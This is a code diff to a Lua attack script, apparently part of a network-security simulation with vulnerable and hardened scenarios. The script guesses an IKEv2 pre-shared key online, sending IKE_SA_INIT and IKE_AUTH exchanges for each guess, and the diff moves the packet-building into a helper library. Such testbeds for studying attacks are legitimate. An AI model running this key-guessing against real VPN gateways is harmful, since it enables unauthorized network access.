@@ -12,10 +12,11 @@ attack = {
   scenarios = { vulnerable = "secret-guessing", hardened = "secret-guessing-filtered" },
 }
 
+local caller = library "caller"
+
 -- Parameters: target, own, id; guesses = a list, separated by spaces
 local p, guesses, at, me = nil, {}, 0, nil
 local goal = "get in by guessing"
-local transforms = { { type = 1, id = 20, key_bits = 256 }, { type = 2, id = 5 }, { type = 4, id = 31 } }
 
 function on_start(params)
   p = params
@@ -28,35 +29,20 @@ function on_start(params)
   timer.after("500ms", "call")
 end
 
-local function send(note, payload)
-  inject{ src = p.own, src_port = 500, dst = p.target, dst_port = 500, protocol = "IKE", note = note, payload = payload }
-end
-
 function on_timer(label)
-  if label == "call" or not me or me.at == tonumber(label) then
-    at = at + 1
-    if not guesses[at] then return end
-    me = { at = at, pair = crypto.key_pair("x25519"), nonce = crypto.random(32), spi = bytes.hex(crypto.random(8)) }
-    me.request = ike.encode{ spi_i = me.spi, spi_r = "0000000000000000", exchange = 34, initiator = true, message_id = 0,
-      payloads = { ike.sa{ number = 1, protocol = 1, spi = "", transforms = transforms }, ike.ke(me.pair), ike.nonce(me.nonce) } }
-    send("IKE_SA_INIT, for guess " .. at, me.request)
-    timer.after("400ms", tostring(at))   -- no answer: go on with the next
-  end
+  if label ~= "call" and me and me.at ~= tonumber(label) then return end
+  at = at + 1
+  if not guesses[at] then return end
+  me = caller.call(p, "IKE_SA_INIT, for guess " .. at)
+  me.at = at
+  timer.after("400ms", tostring(at))   -- no answer: go on with the next
 end
 
-on({ exchange = "IKE_SA_INIT", response = true, payload = "KE" }, function(_, message)
-  if not me or message.spi_i ~= me.spi or me.keys then return end
-  me.suite = ike.suite(find(message, "SA").proposals[1])
-  local nr = find(message, "Ni/Nr").data
-  me.keys = ike.keys(me.suite, { ni = me.nonce, nr = nr, shared = crypto.shared(me.pair, find(message, "KE").data), spi_i = me.spi, spi_r = message.spi_r })
-  ring.ike(me.spi, me.suite, me.keys)
+on({ exchange = "IKE_SA_INIT", response = true }, function(_, message)
+  if not me or not caller.answered(me, message) then return end
   local id = ike.id("i", 2, p.id)
-  local octets = ike.signed_octets(me.suite.prf, { message = me.request, nonce = nr, sk_p = me.keys.sk_pi, id = id.body })
-  send("IKE_AUTH with guess " .. me.at .. ": " .. guesses[me.at], ike.seal({ spi_i = me.spi, spi_r = message.spi_r, exchange = 35, initiator = true,
-    message_id = 1, payloads = {
-      id, ike.auth(2, ike.psk_auth(me.suite.prf, guesses[me.at], octets)),
-      ike.sa{ number = 1, protocol = 3, spi = crypto.random(4), transforms = { { type = 1, id = 20, key_bits = 256 }, { type = 5, id = 0 } } },
-      ike.ts("i", "10.1.0.0", "10.1.0.255"), ike.ts("r", "10.2.0.0", "10.2.0.255") } }, me.suite, me.keys))
+  local auth = ike.psk_auth(me.suite.prf, guesses[me.at], caller.signed_octets(me, id))
+  caller.request(me, 35, 1, { id, ike.auth(2, auth), caller.child("10.1.0.0", "10.1.0.255") }, "IKE_AUTH with guess " .. me.at .. ": " .. guesses[me.at])
 end)
 
 on({ exchange = "IKE_AUTH", response = true }, function(packet)
